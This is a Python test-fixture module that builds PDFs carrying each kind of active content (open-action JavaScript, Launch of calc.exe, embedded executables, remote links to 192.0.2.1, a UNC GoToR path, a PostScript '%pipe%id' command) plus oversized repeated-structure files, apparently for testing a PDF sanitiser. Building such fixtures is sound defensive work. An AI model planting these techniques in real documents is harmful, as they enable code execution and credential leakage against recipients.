"""PDFs with each kind of active content, built with pikepdf or by hand, and large files of repeated structures."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

PAGE_TEXT = b"BT /F1 12 Tf 20 50 Td (Invoice 7) Tj ET"


def new_pdf(page_count: int = 1) -> pikepdf.Pdf:
    """Return a PDF whose pages show a text in a font, and a filled rectangle."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for _ in range(page_count):
        page = pdf.add_blank_page(page_size=(200, 100))
        page.Contents = pdf.make_stream(PAGE_TEXT + b" 10 10 30 20 re f")
        page.Resources = Dictionary(Font=Dictionary(F1=font))
    return pdf


def saved(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    """Return the bytes of a PDF."""
    buffer = BytesIO()
    pdf.save(buffer, **options)
    return buffer.getvalue()


def action(name: str, **entries: Any) -> Dictionary:
    """Return an action of the type `name`."""
    return Dictionary(Type=Name.Action, S=Name("/" + name), **entries)


def script() -> Dictionary:
    return action("JavaScript", JS=String("app.alert(1)"))


def attached_file(pdf: pikepdf.Pdf, content: bytes = b"MZ a program") -> Dictionary:
    """Return the specification of a file inside the PDF."""
    stream = pdf.make_stream(content, Type=Name.EmbeddedFile)
    return Dictionary(Type=Name.Filespec, F=String("a.exe"), UF=String("a.exe"), EF=Dictionary(F=stream))


def add_annotation(pdf: pikepdf.Pdf, subtype: str, **entries: Any) -> None:
    """Add an annotation with an appearance of its own to the first page."""
    appearance = pdf.make_stream(b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    annotation = Dictionary(
        Type=Name.Annot,
        Subtype=Name("/" + subtype),
        Rect=Array([0, 0, 9, 9]),
        AP=Dictionary(N=appearance),
        **entries,
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


def set_open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = script()


def add_page_actions(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=script(), C=script())


def add_named_script(pdf: pikepdf.Pdf) -> None:
    leaf = pdf.make_indirect(Dictionary(Names=Array([String("a"), pdf.make_indirect(script())])))
    middle = pdf.make_indirect(Dictionary(Kids=Array([leaf])))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Kids=Array([middle])))


def add_script_as_stream(pdf: pikepdf.Pdf) -> None:
    add_annotation(pdf, "Link", A=action("JavaScript", JS=pdf.make_stream(b"app.alert(1)")))


def add_following_action(pdf: pikepdf.Pdf) -> None:
    following = Array([action("GoTo", D=String("x"), Next=Array([script()]))])
    add_annotation(pdf, "Link", A=action("GoTo", D=String("x"), Next=following))


def add_action_by_reference(pdf: pikepdf.Pdf) -> None:
    kind = pdf.make_indirect(Name.Launch)
    add_annotation(pdf, "Link", A=pdf.make_indirect(Dictionary(S=kind, F=String("calc.exe"))))


def add_embedded_files(pdf: pikepdf.Pdf) -> None:
    leaf = pdf.make_indirect(Dictionary(Names=Array([String("a.exe"), pdf.make_indirect(attached_file(pdf))])))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Kids=Array([leaf])))
    pdf.Root.Collection = Dictionary(View=Name.D)


def add_associated_file(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AF = Array([attached_file(pdf)])


def add_file_annotation(pdf: pikepdf.Pdf) -> None:
    add_annotation(pdf, "FileAttachment", FS=attached_file(pdf))


def add_external_stream(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"", F=Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("http://192.0.2.1/x")))
    stream.FFilter = Name.FlateDecode
    pdf.pages[0].obj.Contents = Array([pdf.pages[0].obj.Contents, stream])


def add_reference_xobject(pdf: pikepdf.Pdf) -> None:
    reference = Dictionary(F=String("http://192.0.2.1/x.pdf"), Page=0)
    form = pdf.make_stream(b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Ref = reference
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=form)


def add_rendition(pdf: pikepdf.Pdf) -> None:
    clip = Dictionary(Type=Name.MediaClip, S=Name.MCD, CT=String("video/mp4"), D=attached_file(pdf, b"a film"))
    rendition = pdf.make_indirect(Dictionary(Type=Name.Rendition, S=Name.MR, C=clip))
    add_annotation(pdf, "Screen", A=action("Rendition", OP=0, R=rendition, JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(Renditions=Dictionary(Names=Array([String("r"), rendition])))


def add_rich_media(pdf: pikepdf.Pdf) -> None:
    assets = Dictionary(Names=Array([String("a.swf"), attached_file(pdf, b"FWS a program")]))
    settings = Dictionary(Activation=Dictionary(Condition=Name.PO))
    content = Dictionary(Type=Name.RichMediaContent, Assets=assets)
    add_annotation(pdf, "RichMedia", RichMediaContent=content, RichMediaSettings=settings)


def add_three_dimensions(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"U3D", Type=Name("/3D"), OnInstantiate=pdf.make_stream(b"app.alert(1)"))
    add_annotation(pdf, "3D")
    pdf.pages[0].obj.Annots[0]["/3DD"] = stream


def add_form(pdf: pikepdf.Pdf) -> None:
    field = Dictionary(
        FT=Name.Tx, T=String("amount"), V=String("7"), AA=Dictionary(K=script(), F=script(), V=script(), C=script())
    )
    add_annotation(pdf, "Widget", **{name[1:]: value for name, value in field.items()})
    xfa = pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].obj.Annots, XFA=Array([String("template"), xfa]))


def add_postscript(pdf: pikepdf.Pdf) -> None:
    program = pdf.make_stream(b"(%pipe%id) (r) file", Type=Name.XObject, Subtype=Name.PS)
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=program)


def add_bookmark(pdf: pikepdf.Pdf) -> None:
    bookmark = pdf.make_indirect(Dictionary(Title=String("1"), A=action("GoToR", F=String("\\\\192.0.2.1\\x"))))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=bookmark, Last=bookmark, Count=1))


def link_adder(name: str, **entries: Any) -> Callable[[pikepdf.Pdf], None]:
    """Return a function that adds a link with an action."""
    return lambda pdf: add_annotation(pdf, "Link", A=action(name, **entries))


HOSTILE_CONTENT: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "open action": set_open_action,
    "page actions": add_page_actions,
    "script in a name tree": add_named_script,
    "script as a stream": add_script_as_stream,
    "script after a jump": add_following_action,
    "launch by reference": add_action_by_reference,
    "launch": link_adder("Launch", F=String("calc.exe"), Win=Dictionary(F=String("calc.exe"))),
    "remote go-to": link_adder("GoToR", F=String("\\\\192.0.2.1\\x"), D=Array([0, Name.Fit])),
    "embedded go-to": link_adder("GoToE", T=Dictionary(R=Name.C, N=String("a.pdf"))),
    "submit form": link_adder("SubmitForm", F=String("http://192.0.2.1/")),
    "import data": link_adder("ImportData", F=String("x.fdf")),
    "link": link_adder("URI", URI=String("http://192.0.2.1/")),
    "sound": link_adder("Sound"),
    "movie": link_adder("Movie", Operation=Name.Play),
    "thread": link_adder("Thread", F=String("x.pdf")),
    "unknown action": link_adder("SelfDestruct", F=String("x.pdf")),
    "unknown action after a jump": link_adder(
        "GoTo", D=String("x"), Next=Array([action("SelfDestruct", F=String("x.pdf"))])
    ),
    "bookmark": add_bookmark,
    "embedded files": add_embedded_files,
    "associated file": add_associated_file,
    "file annotation": add_file_annotation,
    "external stream": add_external_stream,
    "reference xobject": add_reference_xobject,
    "rendition": add_rendition,
    "rich media": add_rich_media,
    "3D": add_three_dimensions,
    "form": add_form,
    "postscript": add_postscript,
}


def hostile_pdf(name: str) -> pikepdf.Pdf:
    """Return a PDF of one page with one kind of active content."""
    pdf = new_pdf()
    HOSTILE_CONTENT[name](pdf)
    return pdf


def written_pdf(*objects: bytes, root: bytes = b"") -> bytes:
    """Return a PDF written by hand: catalogue with the entries `root`, one page, then these objects from 4."""
    parts = (
        b"<</Type/Catalog/Pages 2 0 R%s>>" % root,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>",
        *objects,
    )
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, part) for number, part in enumerate(parts, 1))
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"


def repeated_structures(size_bytes: int) -> Iterator[tuple[str, bytes]]:
    """Yield name and content of PDFs of about this size that are one structure over and over."""
    yield "stream starts", b"%PDF-1.7\n" + b"stream\n" * (size_bytes // 7) + b"%%EOF\n"
    yield "object starts", b"%PDF-1.7\n" + b"1 0 obj\n" * (size_bytes // 8) + b"%%EOF\n"
    yield "cross-references", b"%PDF-1.7\n" + b"xref\n0 1\n" * (size_bytes // 9) + b"startxref\n9\n%%EOF\n"
    yield "dictionaries", b"%PDF-1.7\n1 0 obj\n" + b"<<" * (size_bytes // 2) + b"\n%%EOF\n"
    one_object = b"4 0 obj\n<</Length 0>>stream\n\nendstream\nendobj\n"
    yield "one object", written_pdf().replace(b"trailer", one_object * (size_bytes // len(one_object)) + b"trailer")
    yield "unnamed streams", written_pdf(*[b"<</Length 1>>stream\nx\nendstream"] * (size_bytes // 56))
    yield "one page", written_pdf().replace(b"[3 0 R]", b"[" + b"3 0 R " * (size_bytes // 6) + b"]")
